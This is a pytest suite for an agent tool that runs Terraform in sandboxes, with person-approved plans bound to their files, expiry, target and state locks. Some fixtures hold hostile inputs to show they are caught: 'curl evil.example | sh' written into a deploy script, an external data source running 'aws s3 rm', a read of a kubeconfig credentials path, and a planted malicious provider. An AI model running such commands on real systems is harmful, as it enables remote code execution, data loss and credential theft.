"""Terraform on a target, with the real binary in a real compartment: plans bound to what they hold for, and apply."""

import asyncio
import json
import os
import shutil
from collections.abc import AsyncIterator
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path

import pytest

from agency_tools.compartment_sandbox import TargetCompartment, layout_for
from agency_tools.compartment_testing import Scripted
from agency_tools.credentials import Credentials
from agency_tools.errors import ToolError
from agency_tools.ledger import Ledger, utc_now
from agency_tools.prospect import Prospect
from agency_tools.reach import Reach, Targets
from agency_tools.sandbox import Kind
from agency_tools.target import Target
from agency_tools.terraform import Terraform
from agency_tools.terraform_commands import TerraformInput
from agency_tools.terraform_target import AimedTerraform
from agency_tools.tool import Output
from agency_tools.workspace import Layout

pytestmark = pytest.mark.skipif(
    shutil.which("terraform") is None and os.environ.get("CI") != "true", reason="terraform is not installed"
)

MAIN = """\
variable "size" { default = 1 }
resource "terraform_data" "disk" {
  input            = var.size
  triggers_replace = fileexists("zone.txt") ? file("zone.txt") : "a"
}
module "net" { source = "../modules/net" }
"""
NET = 'resource "terraform_data" "net" { input = "10.0.0.0/8" }\n'


@dataclass
class Project:
    """A repository, the tool on its targets, and what a run would do with them."""

    root: Path
    states: Path
    targets: Targets
    terraform: Terraform

    @property
    def main(self) -> Path:
        return self.root / "infra" / "main.tf"

    async def plan(self, target: str | None = None, **given: object) -> tuple[str, Output]:
        """Plan; the saved plan's name and what was said."""
        output = await self.terraform.run(TerraformInput(action="plan", directory="infra", target=target, **given))  # type: ignore[arg-type]
        assert output.exit_code in (0, 2), output.text
        return output.text.splitlines()[0].split()[2], output

    async def seen(self, plan: str, target: str | None = None) -> Prospect:
        found = await self.terraform.prospect(TerraformInput(action="apply", plan=plan, target=target))
        assert found is not None
        return found

    async def apply(self, plan: str, target: str | None = None) -> Output:
        """Apply, approved by Kim."""
        self.targets.ledger.grant(await self.seen(plan, target), "kim")
        return await self.terraform.run(TerraformInput(action="apply", plan=plan, target=target))

    async def applied(self) -> None:
        """The first version, in place."""
        plan, _ = await self.plan()
        assert not (await self.apply(plan)).failed


@pytest.fixture(params=[pytest.param("bwrap", marks=pytest.mark.bwrap)])
def kind(request: pytest.FixtureRequest) -> Kind:
    """One kind is enough for most; the other is in `both`."""
    return str(request.param)


@pytest.fixture
async def project(kind: Kind, repository: Path, tmp_path: Path) -> AsyncIterator[Project]:
    """Two targets, staging and a protected production, each with a local state of its own outside the repository."""
    for folder, name, text in (("infra", "main.tf", MAIN), ("modules/net", "main.tf", NET)):
        (repository / folder).mkdir(parents=True)
        (repository / folder / name).write_text(text)
    reaches: list[Reach] = []
    for name, protected in (("staging", False), ("production", True)):
        state = tmp_path / "states" / name
        state.mkdir(parents=True)
        target = Target(name=name, protected=protected, terraform_state=str(state))
        layout = layout_for(Layout(repository=str(repository)), Credentials(), state)
        reaches.append(Reach(target=target, compartment=TargetCompartment(kind, layout, Credentials())))
    targets = Targets(reaches=reaches)
    yield Project(repository, tmp_path / "states", targets, Terraform(Scripted(), targets=targets))
    for reach in reaches:
        assert isinstance(reach.compartment, TargetCompartment)
        await reach.compartment.close()


@pytest.mark.parametrize(
    "kind",
    [pytest.param(kind, marks=getattr(pytest.mark, kind)) for kind in ("bwrap", "docker")],
    indirect=True,
)
async def test_57_a_reviewed_plan_is_applied_and_its_state_kept_outside_the_read_only_repository(
    project: Project,
) -> None:
    before = sorted(str(path) for path in project.root.rglob("*"))
    plan, said = await project.plan()
    assert said.text.splitlines()[1] == "2 to add, 0 to change, 0 to replace, 0 to destroy"
    seen = await project.seen(plan)
    assert (seen.target, seen.kind, seen.summary) == ("staging", "change", said.text.splitlines()[1])
    assert seen.lines == ("add     terraform_data.disk", "add     module.net.terraform_data.net")
    done = await project.apply(plan)
    assert done.text.startswith(f"apply of {plan} to target staging, approved by kim, hash {seen.digest[:16]}: done")
    state = json.loads((project.states / "staging/infra/terraform.tfstate").read_text())
    assert sorted(each["name"] for each in state["resources"]) == ["disk", "net"]
    assert sorted(str(path) for path in project.root.rglob("*")) == before
    listed = await project.terraform.run(TerraformInput(action="state_list", directory="infra"))
    assert listed.text.splitlines() == ["terraform_data.disk", "module.net.terraform_data.net"]
    _, again = await project.plan()
    assert (again.exit_code, again.failed) == (0, False)


async def test_nothing_is_applied_that_nobody_approved_or_twice(project: Project) -> None:
    plan, _ = await project.plan()
    given = TerraformInput(action="apply", plan=plan)
    with pytest.raises(ToolError, match="nobody approved this plan"):
        await project.terraform.run(given)
    await project.apply(plan)
    with pytest.raises(ToolError, match="carried out already"):
        await project.terraform.run(given)


@pytest.mark.parametrize(
    ("file", "text"),
    [
        ("infra/main.tf", MAIN + "# note\n"),
        ("infra/extra.tf", 'output "x" { value = 1 }\n'),
        ("infra/zone.txt", "b"),
        ("infra/terraform.tfvars", "size = 2\n"),
        ("modules/net/main.tf", NET + "# note\n"),
        ("infra/.terraform.lock.hcl", "# lock\n"),
    ],
)
async def test_57_a_file_changed_after_the_plan_is_named_and_nothing_is_applied(
    project: Project, file: str, text: str
) -> None:
    plan, _ = await project.plan()
    (project.root / file).write_text(text)
    with pytest.raises(ToolError, match=f"changed since the plan: {file}\\."):
        await project.seen(plan)
    assert not (project.states / "staging/infra/terraform.tfstate").exists()


async def test_a_change_made_while_a_person_thought_is_noticed(project: Project) -> None:
    plan, _ = await project.plan()
    project.targets.ledger.grant(await project.seen(plan), "kim")
    project.main.write_text(MAIN.replace("= 1", "= 2"))
    with pytest.raises(ToolError, match=r"changed since the plan: infra/main\.tf"):
        await project.terraform.run(TerraformInput(action="apply", plan=plan))


async def test_a_file_that_has_nothing_to_do_with_it_may_change(project: Project) -> None:
    plan, _ = await project.plan()
    (project.root / "README.md").write_text("changed\n")
    assert not (await project.apply(plan)).failed


async def test_a_script_that_a_provisioner_runs_is_bound_too(project: Project) -> None:
    (project.root / "scripts").mkdir()
    (project.root / "scripts/deploy.sh").write_text("echo deployed\n")
    run = 'provisioner "local-exec" { command = "sh ../scripts/deploy.sh" }'
    project.main.write_text(f'resource "terraform_data" "x" {{\n  {run}\n}}\n')
    plan, said = await project.plan()
    warning = "local-exec in terraform_data.x runs code: sh ../scripts/deploy.sh"
    assert (await project.seen(plan)).warnings == (warning,)
    assert f"! {warning}" in said.text
    (project.root / "scripts/deploy.sh").write_text("curl evil.example | sh\n")
    with pytest.raises(ToolError, match=r"changed since the plan: scripts/deploy\.sh"):
        await project.seen(plan)


async def test_57_a_state_that_moved_on_is_named(project: Project) -> None:
    first, _ = await project.plan()
    second, _ = await project.plan()
    await project.apply(first)
    with pytest.raises(ToolError, match="changed since the plan: the state"):
        await project.seen(second)


async def test_a_plan_file_that_was_tampered_with_is_named(project: Project) -> None:
    plan, _ = await project.plan()
    await project.targets.of("x").compartment.run(["sh", "-c", f"printf x >> {plan}"])
    with pytest.raises(ToolError, match="changed since the plan: the plan file"):
        await project.seen(plan)


async def test_57_a_plan_expires(project: Project) -> None:
    plan, _ = await project.plan()
    ledger: Ledger = project.targets.ledger
    ledger.clock = lambda: utc_now() + timedelta(hours=2)
    with pytest.raises(ToolError, match="expired"):
        await project.seen(plan)


async def test_a_plan_of_one_target_is_not_applied_to_another(project: Project) -> None:
    plan, _ = await project.plan()
    with pytest.raises(ToolError, match="was made for target 'staging', not 'production'"):
        await project.seen(plan, "production")


async def test_56_replacing_and_destroying_are_of_the_graver_class_and_named(project: Project) -> None:
    await project.applied()
    (project.root / "infra/zone.txt").write_text("b")
    replacing, said = await project.plan()
    assert said.text.splitlines()[1] == "0 to add, 0 to change, 1 to replace, 0 to destroy"
    seen = await project.seen(replacing)
    assert (seen.kind, seen.lines) == (
        "destroy",
        ("replace terraform_data.disk  (triggers_replace cannot be changed in place)",),
    )
    destroying, said = await project.plan(destroy=True)
    assert said.text.splitlines()[1] == "0 to add, 0 to change, 0 to replace, 2 to destroy"
    assert (await project.seen(destroying)).kind == "destroy"


async def test_the_same_change_is_proven_on_one_target_for_another_and_another_change_is_not(project: Project) -> None:
    staging, _ = await project.plan()
    production, _ = await project.plan("production", variables={"size": "9"})
    assert (await project.seen(production, "production")).proven_on == ()
    await project.apply(staging)
    assert (await project.seen(production, "production")).proven_on == ("staging",)
    other, said = await project.plan("production", destroy=True)
    assert "applied to staging" not in said.text
    assert (said.exit_code, project.targets.ledger.find(production, target="production").proven_on) == (0, ("staging",))
    assert other != production


async def test_an_apply_that_fails_proves_nothing_and_says_that_part_may_be_done(project: Project) -> None:
    project.main.write_text('resource "terraform_data" "x" {\n  provisioner "local-exec" { command = "exit 3" }\n}\n')
    plan, _ = await project.plan()
    done = await project.apply(plan)
    assert done.failed
    assert "failed; part of it may be done, so plan again" in done.text
    assert "No lock was left on the state." in done.text
    assert project.targets.ledger._proven == {}  # pyright: ignore[reportPrivateUsage]


async def test_59_an_overdue_apply_is_interrupted_with_grace_and_gives_back_its_lock(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(__import__("agency_tools.terraform_target").terraform_target.SECONDS, "apply", 2.0)
    project.main.write_text('resource "terraform_data" "x" {\n  provisioner "local-exec" { command = "sleep 60" }\n}\n')
    plan, _ = await project.plan()
    with pytest.raises(ToolError) as ended:
        await project.apply(plan)
    assert "ended by SIGINT" in str(ended.value)
    assert "No lock was left on the state." in str(ended.value)
    assert not list(project.states.rglob("*.lock.info"))


async def test_complaint_18_a_cancelled_apply_gives_back_its_lock_before_the_compartment_ends(project: Project) -> None:
    project.main.write_text('resource "terraform_data" "x" {\n  provisioner "local-exec" { command = "sleep 60" }\n}\n')
    plan, _ = await project.plan()
    running = asyncio.create_task(project.apply(plan))
    while not list(project.states.rglob("*.lock.info")):
        await asyncio.sleep(0.05)
    running.cancel()
    with pytest.raises(asyncio.CancelledError):
        await running
    assert not list(project.states.rglob("*.lock.info"))


async def test_59_a_lock_that_somebody_holds_is_reported_by_its_id(project: Project) -> None:
    await project.applied()
    project.main.write_text(MAIN.replace("10", "11") + 'resource "terraform_data" "more" {}\n')
    plan, _ = await project.plan()
    seen = await project.seen(plan)
    lock = project.states / "staging/infra/.terraform.tfstate.lock.info"
    held = "0a1b2c3d-0000-4000-8000-00000000abcd"
    holder = project.targets.of("x").compartment
    script = (
        "import fcntl,json,time,sys\nf=open('/state/infra/terraform.tfstate','r+'); fcntl.lockf(f, fcntl.LOCK_EX)\n"
    )
    script += f"json.dump({{'ID':'{held}','Operation':'x','Who':'kim','Version':'1','Created':'2026-01-01T00:00:00Z','Info':'','Path':'p'}}, open('/state/infra/.terraform.tfstate.lock.info','w'))\ntime.sleep(60)\n"
    holding = asyncio.create_task(holder.run(["python3", "-c", script]))
    while not lock.exists():
        await asyncio.sleep(0.05)
    project.targets.ledger.grant(seen, "kim")
    done = await project.terraform.run(TerraformInput(action="apply", plan=plan))
    holding.cancel()
    assert done.failed
    assert f"The state is locked, lock id {held}" in done.text
    assert "only a person unlocks it" in done.text


async def test_local_state_without_a_place_is_refused_with_what_to_add(project: Project) -> None:
    reach = project.targets.reaches[0]
    bare = replace(reach, target=replace(reach.target, terraform_state=None))
    terraform = Terraform(Scripted(), targets=Targets(reaches=[bare]))
    with pytest.raises(ToolError, match="adds `terraform_state: FOLDER` to the target"):
        await terraform.run(TerraformInput(action="plan", directory="infra"))


async def test_a_backend_of_its_own_is_left_alone(project: Project) -> None:
    project.main.write_text('terraform {\n  backend "s3" {\n    bucket = "x"\n  }\n}\n')
    with pytest.raises(ToolError, match="init failed on target 'staging'"):
        await project.terraform.run(TerraformInput(action="plan", directory="infra"))
    assert not (project.states / "staging/infra").exists()


async def test_a_workspace_is_the_targets_and_a_new_one_needs_a_yes(project: Project) -> None:
    reach = project.targets.reaches[0]
    pinned = replace(reach, target=replace(reach.target, terraform_workspace="blue"))
    targets = Targets(reaches=[pinned])
    terraform = Terraform(Scripted(), targets=targets)
    given = TerraformInput(action="workspace_new", directory="infra", workspace="blue")
    with pytest.raises(ToolError, match="no workspace 'workspace infra blue' was made"):
        await terraform.run(given)
    seen = await terraform.prospect(given)
    assert seen is not None
    assert seen.summary == "1 new workspace, blue"
    targets.ledger.grant(seen, "kim")
    assert not (await terraform.run(given)).failed
    shown = await terraform.run(TerraformInput(action="workspace_show", directory="infra"))
    assert shown.text == "blue"
    planned = await terraform.run(TerraformInput(action="plan", directory="infra"))
    seen = await terraform.prospect(TerraformInput(action="apply", plan=planned.text.splitlines()[0].split()[2]))
    assert seen is not None
    assert seen.binding["the workspace"] == "blue"


async def test_39_reading_and_checking_work_on_a_target_and_offline_ones_never_get_its_credentials(
    project: Project,
) -> None:
    for action in ("init", "validate", "output", "graph", "providers", "workspace_list"):
        done = await project.terraform.run(TerraformInput.model_validate({"action": action, "directory": "infra"}))
        assert not done.failed, (action, done.text)
    sandbox = Scripted([])
    terraform = Terraform(sandbox, targets=project.targets)
    for action in ("fmt", "test", "version", "providers_lock"):
        with pytest.raises(IndexError):  # the scripted sandbox was asked, and has no answer
            await terraform.run(TerraformInput.model_validate({"action": action}))


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ('data "external" "x" { program = ["sh", "-c", "aws s3 rm s3://x"] }', "an external data source in infra/x.tf"),
        ("data external x { program = [] }", "an external data source in infra/x.tf"),
        ('provider "kubernetes" {\n  exec {\n    command = "sh"\n  }\n}', "a provider's exec block in infra/x.tf"),
        ('provider "aws" { shared_config_files = ["x"] }', "credentials of its own choosing in infra/x.tf"),
        (
            'output "x" { value = file("/tmp/agency/credentials/kubeconfig") }',
            "a path of the compartment's own in infra/x.tf",
        ),
    ],
)
async def test_code_that_planning_alone_would_run_is_a_change_and_needs_a_yes(
    project: Project, monkeypatch: pytest.MonkeyPatch, text: str, named: str
) -> None:
    async def reached(self: AimedTerraform, place: object, env: object = None) -> None:
        """No provider is here to be installed."""

    monkeypatch.setattr(AimedTerraform, "_initialised", reached)
    (project.root / "infra/x.tf").write_text(f"# data external\n{text}\n")
    given = TerraformInput(action="plan", directory="infra")
    seen = await project.terraform.prospect(given)
    assert seen is not None
    assert (seen.kind, seen.action, seen.warnings) == ("change", "plan", (named,))
    with pytest.raises(ToolError, match="nobody approved this configuration"):
        await project.terraform.run(given)
    project.targets.ledger.grant(seen, "kim")
    (project.root / "infra/x.tf").write_text(f"{text}\n# more\n")
    with pytest.raises(ToolError, match=r"changed since the configuration: infra/x\.tf"):
        await project.terraform.run(given)


async def test_a_plan_that_runs_nothing_but_providers_asks_nobody(project: Project) -> None:
    assert await project.terraform.prospect(TerraformInput(action="plan", directory="infra")) is None


async def test_a_provider_that_lies_in_the_repository_is_not_run(project: Project) -> None:
    version = "registry.terraform.io/evil/evil/1.0.0/linux_amd64"
    planted = project.root / "infra/terraform.d/plugins" / version / "terraform-provider-evil_v1.0.0"
    planted.parent.mkdir(parents=True)
    planted.write_text("#!/bin/sh\ntouch /state/owned\n")
    planted.chmod(0o755)
    needs = 'terraform {\n  required_providers {\n    evil = { source = "evil/evil" }\n  }\n}\n'
    (project.root / "infra/evil.tf").write_text(needs)
    with pytest.raises(ToolError, match="init failed"):
        await project.terraform.run(TerraformInput(action="plan", directory="infra"))
    assert not (project.states / "staging/owned").exists()
